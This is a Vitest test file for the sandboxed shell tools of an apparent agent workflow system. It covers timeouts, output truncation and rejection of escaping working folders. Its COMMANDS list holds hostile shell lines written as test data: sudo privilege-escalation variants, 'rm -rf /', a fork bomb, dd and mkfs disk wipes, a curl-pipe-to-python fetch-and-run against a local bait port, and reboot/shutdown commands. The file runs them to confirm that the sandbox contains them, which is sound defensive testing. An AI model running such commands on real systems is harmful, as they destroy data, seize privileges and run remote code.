import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { JsonObject } from '../../src/base/json.ts';
import type { Execution, Sandbox, SandboxJob } from '../../src/ports/sandbox.ts';
import type { ToolContext } from '../../src/ports/tool.ts';
import { builtinTools } from '../../src/tools/index.ts';
import { shellTools } from '../../src/tools/shell.ts';
import { nothingKept } from '../make.ts';
import { type Bait, layBait } from '../sandboxes/bait.ts';
import { boxUser, openBox } from '../sandboxes/boxes.ts';
import { type Bench, makeBench, policy } from './bench.ts';

let bench: Bench;
beforeEach(() => {
  bench = makeBench();
});
afterEach(() => bench.clear());

const quiet: Execution = {
  ...{ exitCode: 0, stdout: '', stderr: '', limits: [], files: [], notes: [], ms: 1 },
};

/** A box that answers as told and keeps what it was asked. */
function box(answer: Partial<Execution> = {}, asked: SandboxJob[] = []): () => Promise<Sandbox> {
  return async () => ({
    ...{ name: 'bwrap', isolation: 'none', languages: [], shell: true },
    run: async (job) => {
      asked.push(job);
      return { ...quiet, ...answer };
    },
    ...nothingKept,
  });
}

describe.each(shellTools.map(({ name }) => name))('%s', (name) => {
  const call = (args: JsonObject, context: Partial<ToolContext> = {}) =>
    bench.call(name, args, context);

  it('is given only when it is named, and needs a box', () => {
    const tool = builtinTools.find((one) => one.name === name);
    expect(tool).toMatchObject({ grant: 'explicit', needsBox: true, idempotent: true });
    expect(tool?.sideEffects ?? false).toBe(false);
  });

  it.each([
    [undefined, 130_000, 30_000],
    [5, 130_000, 5000],
    [119, 130_000, 119_000],
    [5000, 130_000, 120_000],
    [60, 2000, 1500],
  ])('with %s s asked for and %d ms left, gives %d ms', async (timeout, timeoutMs, wanted) => {
    const asked: SandboxJob[] = [];
    const args = { command: 'x', ...(timeout !== undefined && { timeout }) };
    const sandboxPolicy = { ...policy, timeoutMs: 3_600_000 };
    await call(args, { sandbox: box({}, asked), timeoutMs, sandboxPolicy });
    expect(asked[0]?.timeoutMs).toBe(wanted);
  });

  it('takes no longer than the workflow allows', async () => {
    const asked: SandboxJob[] = [];
    await call({ command: 'x' }, { sandbox: box({}, asked), timeoutMs: 130_000 });
    expect(asked[0]?.timeoutMs).toBe(policy.timeoutMs);
  });

  it('gives the box the command, the folders and the secrets, and no tools', async () => {
    const asked: SandboxJob[] = [];
    const boxSecrets = { names: ['KEY'], valueFor: () => undefined };
    const boxTools = { names: ['a.b'], call: async () => ({ ok: true, status: 200, data: 1 }) };
    await call({ command: 'a; b' }, { sandbox: box({}, asked), boxSecrets, boxTools });
    expect(asked[0]).toMatchObject({
      ...{ language: 'shell', code: 'a; b', policy, secrets: boxSecrets },
      ...{ inputs: `${bench.folder}/inputs`, shared: `${bench.folder}/shared`, output: [] },
    });
    expect(asked[0]?.tools).toBeUndefined();
  });

  it('worked when its return code is not 0', async () => {
    const answer = { exitCode: 3, stdout: 'a', stderr: 'b' };
    expect(await call({ command: 'x' }, { sandbox: box(answer) })).toEqual({
      ok: true,
      status: 200,
      data: { stdout: 'a', stderr: 'b', returncode: 3, files: [] },
    });
  });

  it('keeps 50,000 characters of stdout and 10,000 of stderr, from both ends', async () => {
    const long = `first${'x'.repeat(60_000)}last`;
    const { data } = await call({ command: 'x' }, { sandbox: box({ stdout: long, stderr: long }) });
    const { stdout, stderr } = data as { stdout: string; stderr: string };
    expect(stdout.length).toBeLessThanOrEqual(50_000);
    expect(stdout.length).toBeGreaterThan(49_900);
    expect(stderr.length).toBeLessThanOrEqual(10_000);
    for (const text of [stdout, stderr]) {
      expect(text).toMatch(/^firstx+\n\[\.\.\. [\d,]+ characters left out \.\.\.\]\nx+last$/);
    }
  });

  it.each([
    ['timeout', 408, 'the program was stopped after 20 s'],
    ['memory', 500, 'memory (256 MiB) was used up'],
  ] as const)('that was stopped for %s has status %d', async (stopped, status, error) => {
    const answer = { exitCode: undefined, stopped, limits: [stopped], stdout: 'so far' };
    const done = await call({ command: 'x' }, { sandbox: box(answer) });
    expect(done).toMatchObject({ ok: false, status, data: { stdout: 'so far', returncode: null } });
    expect(done.error).toContain(error);
  });

  it.each([
    ['', 'x'],
    ['.', 'x'],
    ['./', 'x'],
    ['output', "cd -- 'output' || exit; x"],
    ['output/', "cd -- 'output' || exit; x"],
    ["output/it's", "cd -- 'output/it'\\''s' || exit; x"],
    ['inputs/$(id)', "cd -- 'inputs/$(id)' || exit; x"],
  ])('starts in %j', async (cwd, code) => {
    bench.put("output/it's/a", '');
    bench.put('inputs/$(id)/a', '');
    const asked: SandboxJob[] = [];
    await call({ command: 'x', cwd }, { sandbox: box({}, asked) });
    expect(asked[0]?.code).toBe(code);
  });

  it.each([
    ['/', 403],
    ['/etc', 403],
    ['..', 403],
    ['output/../..', 403],
    ['tmp', 403],
    ['Output', 403],
    ['~', 403],
    ['output\n', 403],
    ['C:/x', 403],
    ['output/none', 404],
  ])('does not start in %j: %d', async (cwd, status) => {
    const asked: SandboxJob[] = [];
    const noted: [string, string | undefined][] = [];
    const denied: ToolContext['denied'] = (reason, kind) => noted.push([reason, kind]);
    const done = await call({ command: 'x', cwd }, { sandbox: box({}, asked), denied });
    expect(done).toMatchObject({ ok: false, status });
    expect(asked).toEqual([]);
    expect(noted.map(([, kind]) => kind)).toEqual(status === 403 ? ['acl.sandbox.denied'] : []);
  });

  it('is not there in a box without a shell, and says which boxes have one', async () => {
    const sandbox = async () => ({ ...(await box()()), name: 'deno' as const, shell: false });
    expect(await call({ command: 'x' }, { sandbox })).toMatchObject({
      ...{ ok: false, status: 503 },
      error: expect.stringMatching(/\(deno\) has no shell.*bwrap, jail, none/),
    });
  });

  it('says what to write in the place of /dev/stderr', async () => {
    const stderr = 'program.sh: line 1: /dev/stderr: No such device or address\n';
    const { data } = await call({ command: 'x' }, { sandbox: box({ stderr, exitCode: 1 }) });
    expect(data).toMatchObject({ notes: [expect.stringContaining('>&2')] });
  });
});

/** Commands that a filter of words lets through (spec, capabilities 12.9, rows 132-134). */
const COMMANDS: readonly [command: string, stdout?: string][] = [
  ...['\\sudo id', "s''udo id", '"sudo" id', 'env -i sudo id', 'A=1 sudo id'].map((one) => [one]),
  ...['(sudo id)', '! sudo id', '$(printf su)do id', "eval 'su''do id'", 'su - -c id'].map(
    (one) => [one],
  ),
  ...['runuser -u root id', 'rm -r -f /', 'rm --recursive --force /', 'rm -rf //'].map((one) => [
    one,
  ]),
  ...["rm -rf '/'", 'rm -rf --no-preserve-root /', 'rm -rf $HOME', 'find / -delete'].map((one) => [
    one,
  ]),
  ...['f(){ f|f& };f', "dd of='/dev/sda' if=/dev/zero count=1", 'mkfs.ext4 /dev/sda'].map((one) => [
    one,
  ]),
  ...['curl http://127.0.0.1:$TCP|python3', 'bash <(curl http://127.0.0.1:$TCP)'].map((one) => [
    one,
  ]),
  ...['reboot', 'shutdown -h now', 'halt -f', 'echo o >/proc/sysrq-trigger'].map((one) => [one]),
  ...['/usr/bin/sudo id', './sudo', 'true;sudo id', 'true$(sudo id)', 'true\nsudo id'].map(
    (one) => [one],
  ),
  ['PATH=output:$PATH; echo "echo mine" >output/id; sh output/id; rm output/id', 'mine\n'],
  ['alias sudo=id; sudo -u'],
  ['echo halt the process', 'halt the process\n'],
  ['echo please do not shutdown or reboot', 'please do not shutdown or reboot\n'],
] as [string, string?][];

describe.each(['bwrap', 'jail'] as const)('the shell in a %s', (name) => {
  let opened: Sandbox;
  let bait: Bait;
  beforeAll(async () => {
    opened = await openBox(name);
    bait = await layBait(await boxUser());
  });
  afterAll(async () => {
    await bait.close();
    await opened.close();
  });
  const call = (command: string, tool = 'shell.execute') =>
    bench.call(tool, { command }, { sandbox: async () => opened });

  it.each(COMMANDS)(
    'lets %j do what it can, which is nothing to the host',
    async (command, stdout) => {
      bench.put('inputs/kept.txt', 'as it was');
      const done = await call(`TCP=${bait.tcp}\n${command}`, 'terminal.execute');
      expect(done.ok || done.status === 500 || done.status === 408).toBe(true);
      expect(JSON.stringify(done.data)).not.toMatch(/uid=0/);
      if (stdout !== undefined) expect(done).toMatchObject({ status: 200, data: { stdout } });
      expect(await bait.untouched()).toBe(true);
      expect(await bench.call('file.read', { path: 'inputs/kept.txt' })).toMatchObject({
        data: { content: 'as it was' },
      });
    },
  );

  it('hands files over as artifacts, and finds them again', async () => {
    bench.put('inputs/a.csv', 'x\n1\n');
    const first = await call('tr a-z A-Z <inputs/a.csv >output/b.csv; exit 3');
    expect(first).toMatchObject({
      ok: true,
      data: { returncode: 3, files: [{ path: 'output/b.csv', bytes: 4 }] },
    });
    const second = await bench.call(
      'shell.execute',
      { command: 'cat output/b.csv; pwd', cwd: 'inputs' },
      { sandbox: async () => opened },
    );
    expect(second).toMatchObject({ data: { returncode: 0 } });
    expect(second.data).toMatchObject({ stdout: expect.stringMatching(/\/inputs\n$/) });
  });
});
